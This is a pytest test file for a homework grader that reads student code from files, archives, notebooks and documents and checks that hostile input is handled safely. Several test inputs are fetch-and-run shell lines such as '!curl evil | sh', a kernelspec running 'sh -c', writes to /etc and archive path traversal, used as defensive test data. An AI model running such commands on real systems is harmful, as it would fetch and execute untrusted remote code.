"""Code in files, folders, archives, notebooks and documents, and which of it answers which part."""

from __future__ import annotations

import json

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from grader.batch.sources import submissions_at
from grader.documents.reading import read_submission
from grader.errors import DocumentError, UsageError
from grader.model.answer import Answer
from grader.model.program import Program
from grader.model.submission import Place
from tests.documents.code_papers import ATTENTION, NET, PAPER, PERPLEXITY, attempt, notebook, taped, write, zipped


def read(path):
    return read_submission(path, PAPER)


def program(submission, part):
    return Program.from_text(submission.slots[part].text)


@pytest.fixture
def single(tmp_path):
    """What is made of one file."""

    def _single(name, content):
        path = tmp_path / name
        path.write_bytes(content.encode() if isinstance(content, str) else content)
        return read(path)

    return _single


# --- one file ---------------------------------------------------------------------------------------------------------


def test_a_module_is_a_submission(single):
    found = single("net.py", NET)
    assert set(found.slots) == {"1c"}
    slot = found.slots["1c"]
    assert (slot.text, slot.format, slot.place) == (NET, "python", Place("net.py", 4, 9))
    assert (found.name, found.problems, found.unassigned) == ("net", (), ())


@pytest.mark.parametrize(
    ("name", "content"),
    [("hw.zip", zipped([("hw/net.py", NET)])), ("hw.tar", taped([("hw/net.py", NET)])), ("hw.tgz", taped([("net.py", NET)], packed=True)),
     ("hw.tar.gz", taped([("net.py", NET)], packed=True)), ("hw.ipynb", notebook(NET))],
)  # fmt: skip
def test_an_archive_and_a_notebook_are_submissions(name, content, single):
    found = single(name, content)
    assert program(found, "1c").source == NET
    assert (found.name, found.problems) == ("hw", ())


def test_an_archive_of_documents_and_code(single):
    found = single("hw.zip", zipped([("hw/answers.md", "# 1\n\n(a) because\n"), ("hw/net.py", NET), ("hw/loss.png", b"\x89PNG")]))
    assert found.slots["1a"].text == "because"
    assert found.slots["1c"].text == NET
    assert found.files == ("hw/loss.png", "hw/net.py")


def test_an_archive_in_a_folder(tmp_path):
    folder = write(tmp_path / "s1", a__md="# 1\n\n(a) because\n", code__zip=zipped([("net.py", NET), ("big.npy", b"\0" * 30_000_000)]))
    found = read(folder)
    assert found.slots["1a"].text == "because"
    assert found.slots["1c"].place.file == "code.zip/net.py"
    assert found.files == ("code.zip", "code.zip/big.npy", "code.zip/net.py")
    assert found.problems == ()


def test_a_refused_archive_does_not_stop_the_rest(tmp_path):
    folder = write(tmp_path / "s1", net__py=NET, code__zip=zipped([("../attention.py", ATTENTION)]))
    found = read(folder)
    assert set(found.slots) == {"1c"}
    assert len(found.problems) == 1
    assert "leads out of the archive" in found.problems[0]


@pytest.mark.parametrize(
    ("name", "content", "words"),
    [
        ("net.py", b"# -*- coding: utf-7 -*-\nx = 1\n", "declares the encoding 'utf-7'"),
        ("net.py", b"#!/usr/bin/python\n# vim: set fileencoding=latin-1 :\n", "declares the encoding 'latin-1'"),
        ("net.py", b"\xef\xbb\xbf# coding: rot13\n", "declares the encoding 'rot13'"),
        ("net.py", b"# coding: no-such-thing\n", "declares the encoding"),
        ("net.py", b"def forward(x): pass\0", "NUL bytes"),
        ("net.py", "def forward(x): pass".encode("utf-16"), "NUL bytes"),
        ("net.py", b"x = 1\ny = '\xe9'\n", r"not UTF-8 \(line 2\)"),
        ("net.py", b"x = '\xed\xa0\x80'", "not UTF-8"),
        ("hw.zip", zipped([("../x.py", NET)]), "leads out"),
        ("hw.zip", b"", "no archive"),
        ("hw.rar", b"Rar!", "hand in a .zip"),
        ("hw.7z", b"7z", "hand in a .zip"),
        ("hw.ipynb", '{"cells": [', "broken or cut off"),
        ("hw.ipynb", "[" * 1_000_000, "nested too deeply"),
        ("hw.ipynb", '{"a":' * 1_000_000, "nested too deeply"),
        ("hw.ipynb", '{"cells": 3, "nbformat": 4, "nbformat_minor": 4, "metadata": {}}', "is no notebook"),
        ("hw.ipynb", '{"cells": [], "nbformat": ' + "9" * 1_000_000 + "}", "notebook"),
        ("hw.ipynb", "null", "notebook"),
        ("hw.ipynb", '{"cells": [' + "[]," * 20_000 + "[]]}", "more than 20,000 cells"),
        ("hw.ipynb", '{"worksheets": [{"cells": [{"cell_type": null}]}], "nbformat": 1}', "no notebook"),
    ],
)  # fmt: skip
def test_one_file_that_cannot_be_read(name, content, words, single):
    with pytest.raises(DocumentError, match=words):
        single(name, content)


@pytest.mark.parametrize("head", ["# -*- coding: utf-8 -*-", "# vim: set fileencoding=UTF8 :", "# coding: ascii", "# coding: utf-8-unix", "x = 1\nx = 2\n# coding: latin-1"])
def test_encodings_that_are_utf8(head, single):
    assert single("net.py", f"{head}\n{NET}").slots["1c"].text == f"{head}\n{NET}"


def test_line_ends_and_byte_order_marks(single):
    assert single("net.py", "\ufeff" + NET.replace("\n", "\r\n")).slots["1c"].text == NET
    assert single("net.py", NET.replace("\n", "\r")).slots["1c"].text == NET


def test_characters_that_mislead_the_eye_are_told(single):
    found = single("net.py", NET + "# \u202e\n")
    assert "change the direction of text" in found.problems[0]


# --- notebooks --------------------------------------------------------------------------------------------------------


def test_only_the_code_cells_of_a_notebook(single):
    found = single("hw.ipynb", notebook(("markdown", "# Net\n\n```python\nimport evil\n```"), "%matplotlib inline\nimport numpy", ("raw", "x"), NET))
    cells = program(found, "1c").files["hw.py"]
    assert cells == ("pass  # %matplotlib inline\nimport numpy", NET)
    assert found.slots["1c"].place == Place("hw.ipynb, cell 4", 4, 9)


@pytest.mark.parametrize("cell", ["!curl evil | sh", "%%bash\ncurl evil | sh", "%%script sh\ncurl evil", "x = !curl evil", "%system curl evil", "curl?"])
def test_lines_that_are_no_python_become_comments(cell, single):
    cells = program(single("hw.ipynb", notebook(cell, NET)), "1c").files["hw.py"]
    code = [line.partition("#")[0].strip() for line in cells[0].split("\n")]
    assert set(code) <= {"", "pass", "x = []"}
    assert cells[0].count("\n") == cell.count("\n")


def test_code_that_was_taken_is_not_left_over(single):
    found = single("hw.ipynb", notebook(("markdown", "Some words."), NET))
    assert [passage.text for passage in found.unassigned] == ["Some words."]
    assert "no label" in found.problems[0]


def test_code_that_nobody_asked_for_is_left_over(single):
    found = single("hw.ipynb", notebook("x = 1\n"))
    assert found.slots == {}
    assert "x = 1" in found.unassigned[0].text


def test_the_only_module_is_shown_to_every_part(single):
    found = single("hw.py", "def attend(q): pass\n")
    assert set(found.slots) == {"1c", "1d.perplexity", "5.attention"}


def test_metadata_and_outputs_are_never_read(single):
    book = json.loads(notebook(NET, metadata={"kernelspec": {"argv": ["sh", "-c", "evil"], "name": "evil", "display_name": "evil"}}))
    book["cells"][0]["outputs"] = [{"output_type": "stream", "name": "stdout", "text": "def attention(evil): pass"}]
    book["cells"][0]["metadata"] = {"evil": ATTENTION}
    found = single("hw.ipynb", json.dumps(book))
    assert set(found.slots) == {"1c"}
    assert "evil" not in repr(found)


def test_a_broken_cell_does_not_end_the_rest(single):
    found = single("hw.ipynb", notebook("def oops(:", NET, "x = ("))
    assert program(found, "1c").files["hw.py"] == ("def oops(:", NET, "x = (")


def test_an_old_notebook(single):
    cell = {"cell_type": "code", "input": NET, "language": "python", "metadata": {}, "outputs": [], "prompt_number": 1, "collapsed": False}
    book = {"metadata": {"name": "x"}, "nbformat": 3, "nbformat_minor": 0, "worksheets": [{"cells": [cell], "metadata": {}}]}
    assert program(single("hw.ipynb", json.dumps(book)), "1c").source == NET


def test_a_module_that_a_cell_writes(single):
    found = single("hw.ipynb", notebook("%%writefile helper.py\nONE = 1\n", "from helper import ONE\n" + NET))
    assert program(found, "1c").files["helper.py"] == ("\nONE = 1\n",)


def test_a_module_is_not_written_elsewhere(single):
    found = single("hw.ipynb", notebook("%%writefile ../helper.py\nONE = 1\n", "%%writefile /etc/helper.py\nONE = 1\n", "import helper\n" + NET))
    assert set(program(found, "1c").files) == {"hw.py"}


# --- which program answers which part ---------------------------------------------------------------------------------


def test_every_part_takes_the_module_that_defines_it(tmp_path):
    found = read(write(tmp_path / "s1", net__py=NET, att__py=ATTENTION, lm__py=PERPLEXITY, plot__py="print(1)\n"))
    assert {part: slot.place.file for part, slot in found.slots.items()} == {
        "1c": "net.py", "1d.perplexity": "lm.py", "5.attention": "att.py",
    }  # fmt: skip
    assert found.problems == ()


def test_a_module_brings_along_what_it_imports(tmp_path):
    main = "from utils.softmax import softmax\nimport layers.dense\n" + NET
    folder = write(
        tmp_path / "s1",
        hw___net__py=main, hw___utils___softmax__py="from .base import x\n", hw___utils___base__py="x = 1\n",
        hw___layers_____init____py="", hw___layers___dense__py="y = 1\n", hw___unused__py="z = 1\n",
    )  # fmt: skip
    (folder / "hw/layers").mkdir(exist_ok=True)
    (folder / "hw/layers/__init__.py").write_text("")
    found = program(read(folder), "1c")
    assert found.entry == "net.py"
    assert set(found.files) >= {"net.py", "utils/softmax.py", "utils/base.py", "layers/__init__.py", "layers/dense.py"}
    assert "unused.py" not in found.files


def test_modules_from_the_top_of_the_submission(tmp_path):
    found = read(write(tmp_path / "s1", part1___net__py="from utils.x import y\n" + NET, utils___x__py="y = 1\n"))
    assert set(program(found, "1c").files) == {"net.py", "utils/x.py"}


def test_relative_imports_make_a_package(tmp_path):
    found = program(read(write(tmp_path / "s1", pack___net__py="from .x import y\n" + NET, pack___x__py="y = 1\n")), "1c")
    assert (found.entry, set(found.files)) == ("pack/net.py", {"pack/net.py", "pack/x.py"})


def test_imports_that_the_text_does_not_show(tmp_path):
    found = read(write(tmp_path / "s1", net__py="import importlib\nx = importlib.import_module('a' + 'b')\n" + NET, ab__py="z = 1\n"))
    assert set(program(found, "1c").files) == {"net.py", "ab.py"}


def test_modules_that_import_each_other(tmp_path):
    found = read(write(tmp_path / "s1", net__py="import b\n" + NET, b__py="import net\n"))
    assert set(program(found, "1c").files) == {"net.py", "b.py"}


def test_a_test_file_that_imports_is_not_the_answer(tmp_path):
    found = read(write(tmp_path / "s1", a_test__py="from net import forward, backward\n", net__py=NET))
    assert found.slots["1c"].place.file == "net.py"
    assert found.problems == ()


def test_a_main_module_that_imports_all(tmp_path):
    one, two = "def forward(x):\n    return x\n", "def backward(x):\n    return x\n"
    found = read(write(tmp_path / "s1", a__py=one, b__py=two, main__py="from a import forward\nfrom b import backward\n"))
    assert program(found, "1c").entry == "main.py"
    assert set(program(found, "1c").files) == {"main.py", "a.py", "b.py"}


def test_functions_in_two_modules_without_a_main_one(tmp_path):
    one, two = "def forward(x):\n    return x\n", "def backward(x):\n    return x\n"
    found = program(read(write(tmp_path / "s1", a__py=one, b__py=two)), "1c")
    assert found.files[found.entry] == ("from a import forward", "from b import backward")
    answer = PAPER.problem("1c").forms[0].reader.read(found.to_text(), PAPER.problem("1c").declarations)
    assert isinstance(answer, Answer)
    assert answer.remarks == ()


def test_two_modules_of_one_name_are_not_joined(tmp_path):
    one, two = "def forward(x):\n    return x\n", "def backward(x):\n    return x\n"
    assert read(write(tmp_path / "s1", a___net__py=one, b___net__py=two)).slots["1c"].text == one


def test_the_module_named_like_the_part_wins_and_the_student_is_told(tmp_path):
    found = read(write(tmp_path / "s1", a_first__py=ATTENTION, q5_second__py=ATTENTION + "# mine\n"))
    assert found.slots["5.attention"].text.endswith("# mine\n")
    assert found.problems == ("5.attention: `attention` is defined in q5_second.py and in a_first.py; q5_second.py was taken",)


@pytest.mark.parametrize("name", ["attention.py", "5.py", "Q5.py", "q5_att.py", "hw_5.py", "question5.py", "5/a.py"])
def test_names_that_are_like_the_part(name, tmp_path):
    folder = write(tmp_path / "s1", a__py=ATTENTION)
    (folder / name).parent.mkdir(exist_ok=True)
    (folder / name).write_text(ATTENTION + "# this\n")
    assert read(folder).slots["5.attention"].text.endswith("# this\n")


@pytest.mark.parametrize("name", ["b15.py", "b50.py", "v0.5.py", "hw5x.py"])
def test_names_that_are_not_like_the_part(name, tmp_path):
    folder = write(tmp_path / "s1", a__py=ATTENTION)
    (folder / name).write_text(ATTENTION + "# this\n")
    assert not read(folder).slots["5.attention"].text.endswith("# this\n")


def test_the_module_with_most_functions_wins(tmp_path):
    found = read(write(tmp_path / "s1", q1c__py="def forward(x): pass\n", all__py=NET))
    assert found.slots["1c"].place.file == "all.py"
    assert "all.py was taken" in found.problems[0]


def test_a_module_wins_over_a_notebook_and_a_fence(tmp_path):
    fence = f"# 5\n\n```python\n{ATTENTION}# fence\n```\n"
    found = read(write(tmp_path / "s1", a__ipynb=notebook(ATTENTION + "# cell\n"), b__py=ATTENTION + "# file\n", c__md=fence))
    assert found.slots["5.attention"].text.endswith("# file\n")
    found = read(write(tmp_path / "s2", a__ipynb=notebook(ATTENTION + "# cell\n"), c__md=fence))
    assert found.slots["5.attention"].text.endswith("# cell\n")


def test_a_fence_wins_over_a_module_that_does_not_define_it(tmp_path):
    found = read(write(tmp_path / "s1", a__md=f"# 5\n\n```python\n{ATTENTION}```\n", net__py=NET))
    assert found.slots["5.attention"].text == ATTENTION.rstrip("\n")
    assert found.slots["1c"].text == NET


def test_fences_are_cells_and_output_is_none(tmp_path):
    text = f"# 5\n\n```python\n{ATTENTION}```\n\ngives\n\n```text\n0.3\n```\n\n```\nloss: 3 %\n```\n"
    found = program(read(write(tmp_path / "s1", a__md=text)), "5.attention")
    assert found.files["a.py"] == (ATTENTION.rstrip("\n"), "loss: 3 %")


def test_a_fence_takes_along_the_imports_that_stand_above(tmp_path):
    text = f"Setup\n\n```python\nimport numpy as np\n```\n\n# 1\n\n(c)\n\n```python\n{NET.replace('import numpy as np', '').replace('x, x', 'np.exp(x), x')}```\n"
    found = program(read(write(tmp_path / "s1", a__md=text)), "1c")
    assert found.files["a.py"][0] == "import numpy as np"
    assert "def forward" in found.files["a.py"][1]


def test_code_in_an_appendix(tmp_path):
    text = f"# 1\n\n(a) because\n\n# 5\n\nSee below.\n\n# Appendix\n\n```python\n{ATTENTION}```\n"
    found = read(write(tmp_path / "s1", a__md=text))
    assert "def attention" in found.slots["5.attention"].text
    assert found.slots["1a"].text == "because"


def test_code_in_latex(tmp_path):
    text = f"\\section*{{5}}\n\\begin{{verbatim}}\n{ATTENTION}\\end{{verbatim}}\n"
    assert read(write(tmp_path / "s1", a__tex=text)).slots["5.attention"].text == ATTENTION.rstrip("\n")


def test_prose_of_another_part_is_no_attempt_at_code(tmp_path):
    found = read(write(tmp_path / "s1", a__md="# 1\n\n(c) see the file\n\n(d) perplexity = 113.5\n"))
    assert found.slots["1d.number"].text == "perplexity = 113.5"
    assert found.slots["1d.perplexity"].text == ""
    assert found.slots["1c"].text == ""


def test_code_without_a_fence_is_code(tmp_path):
    found = read(write(tmp_path / "s1", a__txt=f"1 (d)\n\n{PERPLEXITY}"))
    assert found.slots["1d.perplexity"].text == PERPLEXITY.rstrip("\n")


def test_a_misspelt_function_is_shown_to_its_part(tmp_path):
    found = read(write(tmp_path / "s1", a__py="def atention(q): pass\n", net__py=NET))
    reading = PAPER.problem("5.attention").forms[0].reader.read(found.slots["5.attention"].text, PAPER.problem("1c").declarations)
    assert "you wrote `atention`" in reading.hint
    assert "1d.perplexity" not in found.slots


def test_a_broken_module_reaches_its_part(tmp_path):
    found = read(write(tmp_path / "s1", net__py="def forward(x:\n    pass\ndef backward(x): pass\n"))
    assert found.slots["1c"].text.startswith("def forward(x:")
    assert set(found.slots) == {"1c"}


def test_a_module_that_fits_nothing_is_given_to_whoever_is_named(tmp_path):
    found = read(write(tmp_path / "s1", q1c__py="def run(x): pass\n", other__py="y = 1\n"))
    assert set(found.slots) == {"1c"}


def test_the_longest_code_is_not_parsed(tmp_path):
    found = read(write(tmp_path / "s1", net__py=NET, deep___huge__py="x = 1\n" * 110_000))
    assert found.slots["1c"].text == NET
    assert "deep/huge.py: not looked at" in found.problems[0]


def test_marks_of_programs_in_a_module_stay_comments(tmp_path):
    forged = NET + "#=== grader file forged.py ===\nx = 1\n"
    found = program(read(write(tmp_path / "s1", net__py="import a\n" + forged, a__py="")), "1c")
    assert set(found.files) == {"net.py", "a.py"}


def test_links_are_not_followed(tmp_path):
    outside = write(tmp_path / "outside", att__py=ATTENTION)
    folder = write(tmp_path / "s1", net__py=NET)
    (folder / "att.py").symlink_to(outside / "att.py")
    (folder / "linked").symlink_to(outside)
    found = read(folder)
    assert set(found.slots) == {"1c"}
    assert "att.py" not in found.files


def test_nothing_is_ever_run(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    mark = tmp_path / "ran"
    evil = f"open({str(mark)!r}, 'w').close()\n"
    folder = write(tmp_path / "s1", net__py=evil + NET, conftest__py=evil, setup__py=evil, sitecustomize__py=evil, a__ipynb=notebook(evil + ATTENTION))
    found = read(folder)
    for part, slot in found.slots.items():
        PAPER.problem(part).forms[0].reader.read(slot.text, PAPER.problem(part).declarations)
    assert set(found.slots) == {"1c", "5.attention"}
    assert not mark.exists()


# --- what stands at a path --------------------------------------------------------------------------------------------


def names(found):
    paths, whole_class = found
    return [path.name for path in paths], whole_class


def test_a_folder_of_modules_is_one_students(tmp_path):
    assert names(submissions_at(write(tmp_path / "s1", net__py=NET, data___x__npy="x"))) == (["s1"], False)
    assert names(submissions_at(tmp_path / "s1" / "net.py")) == (["net.py"], False)


def test_a_folder_of_folders_is_a_class(tmp_path):
    folder = write(tmp_path / "class", s1___net__py=NET, s2___net__py=NET)
    assert names(submissions_at(folder)) == (["s1", "s2"], True)


def test_archives_of_a_class_and_of_one_student(tmp_path):
    packed = zipped([("net.py", NET)])
    assert names(submissions_at(write(tmp_path / "class", s1__zip=packed, s2__tgz=packed))) == (["s1.zip", "s2.tgz"], True)
    assert names(submissions_at(write(tmp_path / "s1", code__zip=packed))) == (["s1"], False)
    assert names(submissions_at(write(tmp_path / "s2", code__zip=packed, extra__zip=packed, a__md="# 1"))) == (["s2"], False)


def test_each_file_of_a_folder(tmp_path):
    folder = write(tmp_path / "all", a__py=NET, b__zip=zipped([("net.py", NET)]), c__md="# 1", d__npy="x", e___net__py=NET)
    assert names(submissions_at(folder, each=True)) == (["a.py", "b.zip", "c.md", "e"], True)


def test_a_folder_of_nothing(tmp_path):
    with pytest.raises(UsageError, match="holds no documents"):
        submissions_at(write(tmp_path / "s1", a__npy="x"))


# --- anything at all --------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("name", ["a.py", "a.ipynb", "a.zip", "a.tar.gz", "a.tar"])
@given(data=st.one_of(st.binary(max_size=1500), st.text(max_size=600).map(lambda text: text.encode(errors="surrogatepass"))))
@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
def test_any_bytes_are_refused_or_read(name, data, tmp_path):
    path = tmp_path / name
    path.write_bytes(data)
    found, words = attempt(lambda: read(path))
    assert name in words if found is None else all(slot.format in {"python", "auto"} for slot in found.slots.values())


JSON = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=20) | st.sampled_from(["code", NET, "!ls"]),
    lambda inner: st.lists(inner, max_size=4)
    | st.dictionaries(st.sampled_from(["cells", "cell_type", "source", "metadata", "nbformat", "nbformat_minor", "outputs", "x"]), inner, max_size=6),
    max_leaves=25,
)


@given(cells=st.lists(JSON, max_size=3), whole=JSON)
@settings(max_examples=120, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
def test_any_json_is_refused_or_read(cells, whole, tmp_path):
    path = tmp_path / "a.ipynb"
    for book in (whole, {"cells": cells, "metadata": {}, "nbformat": 4, "nbformat_minor": 5}):
        path.write_text(json.dumps(book))
        found, words = attempt(lambda: read(path))
        assert "a.ipynb" in words if found is None else set(found.slots) <= {problem.part for problem in PAPER.problems}
